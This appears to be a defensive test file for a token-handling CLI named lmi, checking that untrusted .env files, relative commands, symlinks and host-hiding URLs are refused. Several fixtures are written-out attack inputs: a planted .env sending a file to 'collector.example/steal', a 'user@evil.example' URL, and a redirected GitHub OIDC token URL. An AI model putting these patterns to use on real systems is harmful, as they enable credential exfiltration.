/**
 * Trust at its edges, in process: what a `.env` may decide (values, never where they go), a
 * relative `command` and relative PATH entries, a discovered file lmi cannot read, a relative
 * `LMI_CONFIG`, URLs that hide their host, and the commands around trust (`--show`, `--list`,
 * `untrust`, a named config, `logout --all`).
 */
import { join } from "../../src/util/path.ts";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "../helpers/assert.ts";
import { exists } from "../helpers/files.ts";
import { serviceEnv, world } from "../helpers/in_process.ts";

const POSIX = Deno.build.os !== "windows";

/** What a stranger's `.env` would say: an env that posts a private file to its own host. */
const PLANTED_ENV = "LMI_BASE_URL=https://git.example.com\n" +
  "LMI_TOKEN_URL=https://collector.example/steal\nLMI_CLIENT_ID=x\n" +
  "LMI_AUTH_TYPE=jwt_bearer\nLMI_SUBJECT_TOKEN_FILE=/etc/hostname\n";

Deno.test("a .env gives values, never where they go, unless its folder is trusted", async (t) => {
  await using w = await world(serviceEnv("dev"));
  w.env.LMI_TRUSTED_PATHS = "";
  assertEquals((await w.lmi("trust")).code, 0);
  const stranger = join(w.dir, "vendor", "stranger");
  await Deno.mkdir(stranger, { recursive: true });
  await Deno.writeTextFile(join(stranger, ".env"), PLANTED_ENV);
  const collected = () => w.apiRequests.filter((r) => r.includes("collector.example"));

  await t.step("a folder below a trusted lmi.toml is not trusted ground", async () => {
    w.cwd = stranger;
    w.stdin = "protocol=https\nhost=git.example.com\n\n";
    assertEquals(await w.lmi("git-credential", "get"), { code: 0, stdout: "", stderr: "" });
    assertEquals(collected(), []);
    const r = await w.lmi("auth", "token", "--env", "default");
    assertEquals(r.code, 3);
    assertStringIncludes(r.stderr, `${join(stranger, ".env")} was not read`);
  });
  await t.step("a .env beside the trusted file defines no env (a pull can change it)", async () => {
    await Deno.writeTextFile(join(w.dir, ".env"), PLANTED_ENV);
    w.cwd = w.dir;
    w.stdin = "protocol=https\nhost=git.example.com\n\n";
    assertEquals(await w.lmi("git-credential", "get"), { code: 0, stdout: "", stderr: "" });
    assertEquals(collected(), []);
    const r = await w.lmi("auth", "token", "--env", "default");
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /LMI_\w+ in .*\.env does not define an env: only a \.env in a folder/);
  });
  await t.step("in LMI_TRUSTED_PATHS the same .env defines it", async () => {
    w.env.LMI_TRUSTED_PATHS = w.dir;
    const r = await w.lmi("env", "show", "default", "--json");
    assertEquals(r.code, 0, r.stderr);
    const values = JSON.parse(r.stdout).values;
    assertEquals(values["auth.token_url"].value, "https://collector.example/steal");
    w.env.LMI_TRUSTED_PATHS = "";
  });
});

Deno.test({
  name: "a relative command runs from the config's folder; relative PATH entries are skipped",
  ignore: !POSIX,
}, async (t) => {
  await using w = await world(
    '[envs.c.auth]\ntype = "command"\ncommand = ["bin/get-token"]\n' +
      '[envs.p.auth]\ntype = "command"\ncommand = ["corp-auth"]\n',
  );
  const script = (token: string, marker: string) => `#!/bin/sh\ntouch '${marker}'\necho ${token}\n`;
  const hostile = join(w.dir, "work", "stranger");
  for (const dir of [join(w.dir, "bin"), join(hostile, "bin")]) {
    await Deno.mkdir(dir, { recursive: true });
  }
  await Deno.writeTextFile(join(w.dir, "bin", "get-token"), script("good", join(w.dir, "ok")));
  await Deno.writeTextFile(join(hostile, "bin", "get-token"), script("evil", join(w.dir, "pwned")));
  await Deno.writeTextFile(join(hostile, "bin", "corp-auth"), script("evil", join(w.dir, "pwned")));
  for (const f of ["bin/get-token", "work/stranger/bin/get-token", "work/stranger/bin/corp-auth"]) {
    await Deno.chmod(join(w.dir, f), 0o755);
  }
  w.cwd = hostile;
  w.env.PATH = `bin:${Deno.env.get("PATH") ?? "/usr/bin:/bin"}`;

  await t.step("bin/get-token is the config folder's, wherever lmi runs", async () => {
    const r = await w.lmi("auth", "token", "--env", "c");
    assertEquals([r.code, r.stdout], [0, "good\n"], r.stderr);
  });
  await t.step("PATH's relative entry (bin) is not searched", async () => {
    const r = await w.lmi("auth", "token", "--env", "p");
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /cannot run auth\.command "corp-auth": not found on PATH/);
  });
  await t.step("nothing of the stranger's ran", async () => {
    assert(!await exists(join(w.dir, "pwned")));
    assert(await exists(join(w.dir, "ok")));
  });
});

Deno.test("trust's edges: unreadable files, relative LMI_CONFIG, URLs with user@", async (t) => {
  await using w = await world(serviceEnv("dev"));
  w.env.LMI_TRUSTED_PATHS = "";
  const config = join(w.dir, "lmi.toml");

  await t.step("a discovered file too large to judge: helpers stay silent", async () => {
    const big = join(w.dir, "big");
    await Deno.mkdir(big);
    await Deno.writeTextFile(join(big, "lmi.toml"), `# ${"x".repeat(1024 * 1024)}\n`);
    w.cwd = big;
    w.stdin = "protocol=https\nhost=git.example.com\n\n";
    assertEquals(await w.lmi("git-credential", "get"), { code: 0, stdout: "", stderr: "" });
    const r = await w.lmi("env", "list");
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /is not trusted \(lmi cannot read it: larger than 1 MiB\)/);
    w.cwd = w.dir;
  });
  await t.step("a relative LMI_CONFIG is refused; an absolute one is used", async () => {
    w.env.LMI_CONFIG = "lmi.toml";
    const r = await w.lmi("env", "list");
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /^lmi: error: LMI_CONFIG: "lmi\.toml" is not absolute\n/);
    w.env.LMI_CONFIG = config;
    assertEquals((await w.lmi("env", "list")).code, 0);
    delete w.env.LMI_CONFIG;
  });
  await t.step("a URL with user@ is a config error naming its real host", async () => {
    await Deno.writeTextFile(
      join(w.dir, "other.toml"),
      '[envs.x]\nbase_url = "https://api.corp.example@evil.example/"\n',
    );
    const r = await w.lmi("env", "list", "--config", join(w.dir, "other.toml"));
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /a URL with a user name or password: .* \(its host is evil\.example\)/);
    // The same rule for a variable and for lmi init's flags.
    w.env.LMI_BASE_URL = "https://api.corp.example@evil.example/";
    w.env.LMI_TOKEN_URL = "https://idp.example/token";
    w.env.LMI_CLIENT_ID = "x";
    const v = await w.lmi("env", "show", "default", "--config", config);
    assertEquals(v.code, 3);
    assertMatch(v.stderr, /LMI_BASE_URL: a URL with a user name or password/);
    for (const key of ["LMI_BASE_URL", "LMI_TOKEN_URL", "LMI_CLIENT_ID"]) delete w.env[key];
    const flag = await w.lmi("init", "--base-url", "https://:pw@evil.example", "--type", "sso");
    assertEquals(flag.code, 2);
    assertMatch(flag.stderr, /--base-url: a URL with a user name or password/);
  });
});

Deno.test("lmi trust --show, --list, a named config, untrust and logout --all", async (t) => {
  await using w = await world(
    serviceEnv("dev") + 'revocation_url = "https://idp.example/revoke"\n',
  );
  w.env.LMI_TRUSTED_PATHS = "";
  const config = join(w.dir, "lmi.toml");

  await t.step("--show shows every host that gets a secret, and trusts nothing", async () => {
    const r = await w.lmi("trust", "--show");
    assertEquals(r.code, 0, r.stderr);
    assertStringIncludes(
      r.stderr,
      '    revokes tokens at   host "idp.example" ("https://idp.example/revoke"), sending ' +
        '"SVC_SECRET"\n',
    );
    assertEquals((await w.lmi("env", "list")).code, 3, "still untrusted");
    const json = JSON.parse((await w.lmi("trust", "--show", "--json")).stdout);
    assertEquals(json.envs[0].destinations.map((d: { role: string }) => d.role), [
      "gets tokens from",
      "revokes tokens at",
      "sends its tokens to",
    ]);
  });
  await t.step("a named config needs no trust step, and says so", async () => {
    const r = await w.lmi("trust", "--config", config);
    assertEquals(r.code, 0);
    assertMatch(r.stderr, /is named by --config: lmi uses it without a trust step/);
    assertEquals((await w.lmi("env", "list")).code, 3, "nothing was recorded");
  });
  await t.step("a relative LMI_CONFIG is refused by lmi trust as everywhere", async () => {
    w.env.LMI_CONFIG = "lmi.toml";
    const r = await w.lmi("trust");
    assertEquals(r.code, 3);
    assertMatch(r.stderr, /LMI_CONFIG: "lmi\.toml" is not absolute/);
    delete w.env.LMI_CONFIG;
  });
  await t.step("--list takes no PATH", async () => {
    assertEquals((await w.lmi("trust", "--list", config)).code, 2);
  });
  await t.step("untrust says when LMI_TRUSTED_PATHS still trusts the file", async () => {
    assertEquals((await w.lmi("trust")).code, 0);
    w.env.LMI_TRUSTED_PATHS = w.dir;
    const r = await w.lmi("untrust");
    assertMatch(r.stderr, /^No longer trusted: .*\nIt is still trusted: it lies below /);
    assertMatch((await w.lmi("trust", "--list")).stdout, /^folder +LMI_TRUSTED_PATHS +"/);
    w.env.LMI_TRUSTED_PATHS = "";
  });
  await t.step("logout --all in an untrusted folder says the tokens stay valid", async () => {
    assertEquals((await w.lmi("trust")).code, 0);
    assertEquals((await w.lmi("login", "--env", "dev")).code, 0);
    assertEquals((await w.lmi("untrust")).code, 0);
    const r = await w.lmi("logout", "--all");
    assertEquals(r.code, 0);
    assertMatch(
      r.stderr,
      /warning: not revoking: .* is not trusted; the deleted tokens stay valid at the IdP/,
    );
    assertEquals(w.revoked, []);
  });
});

Deno.test({
  name: "a discovered config's relative files stay in its folder, links resolved",
  ignore: !POSIX,
}, async (t) => {
  await using w = await world(
    '[envs.ci]\nbase_url = "https://api.example"\n[envs.ci.auth]\ntype = "jwt_bearer"\n' +
      'token_url = "https://idp.example/token"\nclient_id = "x"\nsubject_token_file = "token.jwt"\n',
  );
  const secret = join(`${w.dir}-outside`, "id_ed25519");
  await Deno.mkdir(join(secret, ".."), { recursive: true });
  await Deno.writeTextFile(secret, "PRIVATE KEY MATERIAL\n");
  try {
    await t.step("a file in the folder is used", async () => {
      await Deno.writeTextFile(join(w.dir, "token.jwt"), "a.b.c\n");
      const r = await w.lmi("env", "show", "ci", "--json");
      assertEquals(r.code, 0, r.stderr);
    });
    await t.step("a link that leads outside (a pull can plant one) is refused", async () => {
      await Deno.remove(join(w.dir, "token.jwt"));
      await Deno.symlink(secret, join(w.dir, "token.jwt"));
      const r = await w.lmi("auth", "token", "--env", "ci");
      assertEquals(r.code, 3);
      assertMatch(r.stderr, /subject_token_file "token\.jwt" leads outside .* \(to .*id_ed25519\)/);
      assertEquals(w.tokenRequests, 0);
    });
    await t.step("a named config's paths are its own word", async () => {
      const r = await w.lmi("env", "show", "ci", "--json", "--config", join(w.dir, "lmi.toml"));
      assertEquals(r.code, 0, r.stderr);
    });
  } finally {
    await Deno.remove(`${w.dir}-outside`, { recursive: true });
  }
});

Deno.test("a .env cannot point the job's GitHub OIDC request token at its own host", async (t) => {
  await using w = await world(
    '[envs.ci]\nbase_url = "https://api.example"\n[envs.ci.auth]\ntype = "token_exchange"\n' +
      'token_url = "https://idp.example/token"\nclient_id = "x"\n' +
      'subject_token_source = "github_actions"\n',
  );
  w.env.LMI_TRUSTED_PATHS = "";
  assertEquals((await w.lmi("trust")).code, 0);
  const collected = () => w.apiRequests.filter((r) => r.includes("collector.example"));
  await Deno.writeTextFile(
    join(w.dir, ".env"),
    "ACTIONS_ID_TOKEN_REQUEST_URL=https://collector.example/oidc?x=1\n",
  );

  await t.step("the job's token (environment) with a .env URL: not sent", async () => {
    w.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN = "the-jobs-request-token";
    const r = await w.lmi("auth", "token", "--env", "ci");
    assertEquals(r.code, 3, r.stderr);
    assertStringIncludes(r.stderr, "ACTIONS_ID_TOKEN_REQUEST_URL");
    assertEquals(collected(), []);
    delete w.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
  });
  await t.step("both from the same .env (a stand-in for GitHub) are used", async () => {
    await Deno.writeTextFile(
      join(w.dir, ".env"),
      "ACTIONS_ID_TOKEN_REQUEST_URL=https://collector.example/oidc?x=1\n" +
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN=stand-in\n",
    );
    await w.lmi("auth", "token", "--env", "ci");
    assertEquals(collected().length, 1, "the stand-in's own token went to its own URL");
  });
});
